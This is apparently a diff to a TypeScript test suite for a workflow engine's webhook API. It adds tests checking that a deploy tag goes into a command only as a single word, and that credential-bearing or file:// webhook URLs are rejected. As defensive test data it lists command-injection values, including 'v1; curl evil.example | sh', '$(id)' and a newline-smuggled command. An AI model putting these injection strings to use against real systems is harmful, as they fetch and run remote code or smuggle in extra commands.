@@ -23,6 +23,14 @@ const counts = defineWorkflow({
   run: async (_, { from, to }) => ({ text: `${from}..${to}` }),
 });
 
+const deploys = defineWorkflow({
+  name: 'deploys',
+  description: 'Runs a command.',
+  dangerous: true,
+  input: z.object({ request: z.string() }),
+  run: async (_, { request }) => ({ text: request }),
+});
+
 const received: { url: string; headers: Record<string, string>; body: string }[] = [];
 let answers: number[] = [];
 const receiver = createServer((request, response) => {
@@ -43,6 +51,7 @@ let receiving = '';
 const incoming = {
   build: { workflow: 'work', secret: 'BUILD_SECRET', request: 'look at {build.name} ({build.number})' },
   plain: { workflow: 'counts', secret: 'BUILD_SECRET' },
+  deploy: { workflow: 'deploys', secret: 'BUILD_SECRET', request: 'deploy {tag}' },
 };
 
 beforeAll(async () => {
@@ -58,11 +67,16 @@ beforeAll(async () => {
   });
   engine = await startEngine({
     redis: client.server,
-    workflows: [work.workflow, counts],
+    workflows: [work.workflow, counts, deploys],
+    policy: { rules: [{ allow: true, workflows: ['deploys'] }] },
     platforms: { hook: hooks.platform },
   });
   api = await startApi(engine, {
-    incoming: { hooks: () => incoming, secret: (name) => (name === 'BUILD_SECRET' ? SECRET : undefined) },
+    incoming: {
+      hooks: () => incoming,
+      secret: (name) => (name === 'BUILD_SECRET' ? SECRET : undefined),
+      isDangerous: (name) => name === 'deploys',
+    },
   });
 });
 afterAll(async () => {
@@ -161,6 +175,9 @@ describe('the webhook of a run', () => {
     await off.close();
     expect((await api.post('/api/runs', { ...order, every: 'day at 9' })).status).toBe(400);
     expect((await api.post('/api/runs', { ...order, webhook: { url: 'file:///etc/passwd' } })).status).toBe(400);
+    const named = await api.post('/api/runs', { ...order, webhook: { url: 'https://ana:hush@hooks.example/1' } });
+    expect([named.status, JSON.stringify(named.body)]).toEqual([400, expect.stringContaining('no name and password')]);
+    expect(JSON.stringify(named.body)).not.toContain('hush');
   });
 });
 
@@ -188,6 +205,34 @@ describe('an incoming webhook', () => {
     const again = await send('build', body, signed('msg_1', body));
     expect(runOf(again.body).id).toBe(runOf(first.body).id);
     await api.post(`/api/runs/${runOf(first.body).id}/cancel`, {});
+  });
+
+  test.each([
+    ['v2.4.1', 201],
+    ['release/2029-05@eu', 201],
+    ['v1; curl evil.example | sh', 422],
+    ['$(id)', 422],
+    ['`id`', 422],
+    ['v1\nid', 422],
+    ['--force', 422],
+    ['', 422],
+  ])('puts %j into a command only where it is one word', async (tag, status) => {
+    const body = JSON.stringify({ tag });
+    const answer = await send('deploy', body, signed(`msg_tag_${Buffer.from(tag).toString('hex')}`, body));
+    expect(answer.status).toBe(status);
+    expect(JSON.stringify(answer.body)).toContain(status === 201 ? `deploy ${tag}` : 'must be one word');
+  });
+
+  test('names its own header where its id is no key, tells long ids apart, and refuses an id that came with another body', async () => {
+    const body = JSON.stringify({ input: { from: 1, to: 2 } });
+    const bad = await send('plain', body, signed('msg 6', body));
+    expect([bad.status, JSON.stringify(bad.body)]).toEqual([400, expect.stringContaining('webhook-id takes')]);
+    const long = 'm'.repeat(99);
+    const ids = ['1', '2'].map((end) => `${long}${end}`);
+    const sent = await Promise.all(ids.map((id) => send('plain', body, signed(id, body))));
+    expect(new Set(sent.map((one) => runOf(one.body).id)).size).toBe(2);
+    const other = JSON.stringify({ input: { from: 1, to: 3 } });
+    expect((await send('plain', other, signed(`${long}1`, other))).status).toBe(422);
   });
 
   test('takes a request or structured input where the policy sets none', async () => {
